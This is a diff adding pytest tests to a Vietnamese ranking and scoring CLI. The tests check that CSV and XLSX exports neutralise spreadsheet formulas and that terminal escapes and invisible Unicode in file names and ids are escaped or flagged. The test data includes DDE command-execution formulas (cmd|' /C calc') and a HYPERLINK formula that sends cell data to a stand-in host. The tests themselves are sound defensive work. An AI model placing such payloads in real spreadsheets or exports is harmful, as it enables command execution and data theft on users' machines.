@@ -431,3 +431,119 @@ def test_a_templates_folder_symlinked_outside_the_bloc_is_not_read(bloc, tmp_pat
     assert refused(result)
     assert "'templates' là liên kết (symlink) trỏ ra ngoài thư mục" in result.output
     assert SECRET not in result.output
+
+
+# --- text that becomes code elsewhere (issue 17 point 3) ---------------------------------------------
+
+FORMULAS = ['=HYPERLINK("http://x.invalid/?d="&A1,"Bấm vào đây")', "=WEBSERVICE(\"http://x.invalid\")",
+            "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]
+
+
+def set_text(path: Path, old: str, new: str) -> None:
+    """Replace the YAML value `old` in `path` by the text `new`, quoted (JSON is YAML)."""
+    import json
+
+    text = path.read_text(encoding="utf-8")
+    assert old in text
+    path.write_text(text.replace(old, json.dumps(new, ensure_ascii=False), 1), encoding="utf-8")
+
+
+@pytest.mark.parametrize("value, cell", [
+    ("=1+1", "'=1+1"), ("+1+1", "'+1+1"), ("-1+1", "'-1+1"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
+    ("\r=1", "'\r=1"), ("-0,5", "-0,5"), ("+3", "+3"), ("-12.25", "-12.25"), ("Công an tỉnh", "Công an tỉnh"),
+    ("a=b", "a=b"), ("", ""), (None, None), (7, 7)])
+def test_a_csv_cell_is_never_a_formula_and_a_number_stays_a_number(value, cell):
+    from thidua.rendering.table import csv_cell
+
+    assert csv_cell(value) == cell
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_rank_csv_writes_formula_like_names_as_text(bloc, formula):
+    import csv
+    import io
+
+    set_text(bloc / "data/2020/bloc.yaml", "TAND tỉnh", formula)
+
+    result = run("rank", "2020", "--format", "csv")
+
+    assert result.exit_code == 0, result.output
+    rows = list(csv.reader(io.StringIO(result.stdout_bytes.decode("utf-8-sig"))))
+    assert ["'" + formula] == [cell for row in rows for cell in row if formula in cell]
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_rank_xlsx_writes_formula_like_names_as_text(bloc, formula):
+    import openpyxl
+
+    set_text(bloc / "data/2020/bloc.yaml", "TAND tỉnh", formula)
+
+    result = run("rank", "2020", "--format", "xlsx", "-o", "xep-hang.xlsx")
+
+    assert result.exit_code == 0, result.output
+    cells = [c for row in openpyxl.load_workbook(bloc / "xep-hang.xlsx").active.iter_rows() for c in row]
+    label = [c for c in cells if c.value == formula]
+    assert len(label) == 1 and label[0].data_type == "s" and label[0].quotePrefix
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+
+
+def test_export_sheet_writes_formula_like_names_and_reasons_as_text_and_reads_them_back(bloc):
+    import openpyxl
+    import yaml
+
+    set_text(bloc / "data/2020/criteria.yaml", "Xây dựng kế hoạch, đăng ký thi đua, ký kết giao ước thi đua",
+             FORMULAS[1])
+    set_text(bloc / "data/2020/year/cong-an.yaml",
+             "Được Bộ Công an tặng Cờ thi đua (Quyết định số 1234/QĐ-BCA ngày 15/10/2020)", FORMULAS[0])
+
+    exported = run("export-sheet", "2020", "--unit", "cong-an", "-o", "bang-diem.xlsx")
+
+    assert exported.exit_code == 0, exported.output
+    ws = openpyxl.load_workbook(bloc / "bang-diem.xlsx")["Bảng điểm"]
+    cells = [c for row in ws.iter_rows() for c in row]
+    assert {c.data_type for c in cells if c.value in FORMULAS[:2]} == {"s"}
+    assert {c.column_letter for c in cells if c.data_type == "f"} == {"D"}  # the sheet's own totals
+    imported = run("import-scores", "bang-diem.xlsx", "2020", "--unit", "cong-an", "--force")
+    assert imported.exit_code == 0, imported.output
+    report = yaml.safe_load((bloc / "data/2020/year/cong-an.yaml").read_text(encoding="utf-8"))
+    assert report["bonus"] == [{"points": 2, "reason": FORMULAS[0]}]
+
+
+TERMINAL = "t\x1b[2J\x9b31m\u202e\u200b"  # clear the screen, CSI, a right-to-left override, a zero-width space
+ESCAPED = "t\\x1b[2J\\x9b31m\\u202e\\u200b"
+
+
+@pytest.mark.parametrize("fmt", ["text", "github", "json"])
+def test_a_file_name_with_terminal_escapes_is_shown_escaped(bloc, fmt):
+    shutil.copy(bloc / "data/2020/year/tand.yaml", bloc / f"data/2020/year/{TERMINAL}.yaml")
+
+    result = run("validate", "2020", "--format", fmt)
+
+    assert result.exit_code == 1
+    assert not {"\x1b", "\x9b", "\u202e", "\u200b"} & set(result.output)
+    assert (ESCAPED if fmt != "json" else "t\\u001b[2J\\u009b31m\\u202e\\u200b") in result.output
+    if fmt == "text":
+        assert f"data/2020/year/{ESCAPED}.yaml:4:7: lỗi: Tệp {ESCAPED}.yaml ghi đơn vị 'tand'" in result.output
+
+
+def test_an_error_message_shows_a_file_name_escaped(bloc):
+    result = run("import-scores", f"{TERMINAL}.xlsx", "2020", "--unit", "bchqs", "--force")
+
+    assert refused(result)
+    assert result.output == f"Lỗi: Không có tệp '{ESCAPED}.xlsx'.\n"
+
+
+@pytest.mark.parametrize("old, new, where, named", [
+    ('- id: "1.1"', '- id: "1.1\u200b"', "data/2020/criteria.yaml:13:13", "\\u200b (ký tự không độ rộng U+200B)"),
+    ("- id: tand", '- id: "tand\u202e"', "data/2020/bloc.yaml:23:9",
+     "\\u202e (ký tự điều khiển chiều viết U+202E)")])
+def test_an_id_that_looks_like_another_names_its_invisible_character(bloc, old, new, where, named):
+    path = bloc / where.split(":")[0]
+    path.write_text(path.read_text(encoding="utf-8").replace(old, new, 1), encoding="utf-8")
+
+    result = run("validate", "2020")
+
+    assert result.exit_code == 1
+    shown = new.split('"')[1].encode("unicode_escape").decode("ascii")
+    assert (f"{where}: lỗi: Giá trị '{shown}' có {named}: trông như '{shown.split(chr(92))[0]}' nhưng là giá trị "
+            "khác. Xóa ký tự đó (gõ lại giá trị). [invisible-character]") in result.output
